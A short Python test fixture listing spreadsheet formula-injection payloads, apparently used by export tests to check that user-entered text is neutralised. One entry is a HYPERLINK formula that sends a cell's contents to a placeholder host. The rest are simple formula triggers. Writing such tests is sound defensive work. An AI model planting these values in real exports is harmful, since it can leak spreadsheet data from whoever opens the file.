"""Text a spreadsheet would run as a formula: what export tests plant where citizens write."""

from __future__ import annotations

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://x?d="&D2,"a")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
